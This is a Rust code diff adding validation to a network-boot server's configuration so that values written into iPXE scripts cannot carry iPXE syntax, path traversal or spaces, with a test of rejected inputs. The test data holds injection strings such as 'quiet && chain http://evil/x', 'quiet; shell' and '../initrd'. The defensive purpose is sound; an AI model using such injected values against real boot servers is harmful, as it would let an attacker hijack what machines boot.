@@ -631,6 +631,37 @@ impl Config {
     }
 }
 
+/// Keys whose values are written into iPXE scripts.
+const IN_IPXE_SCRIPTS: [&str; 5] =
+    ["server.public_url", "boot.kernel", "boot.initrd", "boot.squashfs", "boot.extra_kernel_args"];
+
+/// The first piece of `s` an iPXE script would read as its own syntax
+/// rather than as text, and what iPXE makes of it.
+fn ipxe_syntax(s: &str) -> Option<(&'static str, &'static str)> {
+    [
+        ("${", "expands a setting"),
+        ("&&", "chains a command"),
+        ("||", "chains a command"),
+        (";", "separates commands"),
+    ]
+    .into_iter()
+    .find(|(token, _)| s.contains(token))
+}
+
+/// Why a boot file name cannot stand on an iPXE `kernel`/`initrd` line and
+/// in a URL path, if it cannot.
+fn boot_name_problem(s: &str) -> Option<String> {
+    if s.contains(' ') {
+        return Some(format!("`{s}` contains a space, which ends the name on the iPXE kernel/initrd line"));
+    }
+    if s.contains("..") || !valid_plain_name(s) {
+        return Some(format!(
+            "`{s}` must be a plain file name inside boot_dir (no `/`, no `..`, not hidden)"
+        ));
+    }
+    None
+}
+
 fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
     if let (Kind::Int { min, max }, Value::Int(n)) = (def.kind, v) {
         if *n < min || *n > max {
@@ -644,7 +675,16 @@ fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
         // A newline in a value that ends up in an iPXE script would inject commands.
         return Err("must not contain control characters (newlines, tabs)".into());
     }
-    match def.dotted().as_str() {
+    let dotted = def.dotted();
+    if IN_IPXE_SCRIPTS.contains(&dotted.as_str()) {
+        if let Some((token, what)) = ipxe_syntax(s) {
+            return Err(format!(
+                "`{s}` contains `{token}`, which in the iPXE scripts this value is written into {what}; \
+                 remove it"
+            ));
+        }
+    }
+    match dotted.as_str() {
         "server.host" if s.trim().is_empty() => {
             Err("must not be empty; use 0.0.0.0 for every address".into())
         }
@@ -671,9 +711,7 @@ fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
             }
         }
         "admin.password" if s.is_empty() => Err("must not be empty".into()),
-        "boot.kernel" | "boot.initrd" | "boot.squashfs" if !valid_plain_name(s) => {
-            Err(format!("`{s}` must be a plain file name inside boot_dir (no `/`, not hidden)"))
-        }
+        "boot.kernel" | "boot.initrd" | "boot.squashfs" => boot_name_problem(s).map_or(Ok(()), Err),
         _ => Ok(()),
     }
 }
@@ -750,6 +788,43 @@ mod tests {
         ] {
             assert!(err.contains(want), "missing {want:?} in:\n{err}");
         }
+    }
+
+    #[test]
+    fn values_written_into_ipxe_scripts_refuse_its_syntax() {
+        let cases = [
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0 ${net0/ip}", "boot.extra_kernel_args", "`${`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet && chain http://evil/x", "boot.extra_kernel_args", "`&&`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet || shell", "boot.extra_kernel_args", "`||`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet; shell", "boot.extra_kernel_args", "`;`"),
+            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet\nshell", "boot.extra_kernel_args", "control characters"),
+            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2:8080/${x}", "server.public_url", "`${`"),
+            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2;shell", "server.public_url", "`;`"),
+            ("BTY_BOOT_KERNEL", "vmlinuz||shell", "boot.kernel", "`||`"),
+            ("BTY_BOOT_KERNEL", "vm linuz", "boot.kernel", "a space"),
+            ("BTY_BOOT_INITRD", "a..b", "boot.initrd", "`..`"),
+            ("BTY_BOOT_INITRD", "../initrd", "boot.initrd", "no `/`"),
+            ("BTY_BOOT_SQUASHFS", "root.squashfs&&x", "boot.squashfs", "`&&`"),
+            ("BTY_BOOT_SQUASHFS", "sub/root.squashfs", "boot.squashfs", "no `/`"),
+        ];
+        for (env, value, key, says) in cases {
+            let err = load(None, &[(env, value), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap_err().to_string();
+            assert!(err.contains(&format!("{key} (env:{env})")), "{value:?}: {err}");
+            assert!(err.contains(says), "{value:?}: want {says:?} in {err}");
+            if !value.contains('\n') {
+                assert!(err.contains(&format!("`{value}`")), "the offending text is shown: {err}");
+            }
+        }
+        let ok = load(
+            None,
+            &[
+                ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0,115200n8 ip=dhcp"),
+                ("BTY_BOOT_SQUASHFS", "root-1.2.squashfs"),
+                ("BTY_SERVER_PUBLIC_URL", "http://bty.lan:8080/base"),
+                ("BTY_PATHS_STATE_DIR", "/x"),
+            ],
+        );
+        assert!(ok.is_ok(), "{:?}", ok.err());
     }
 
     #[test]
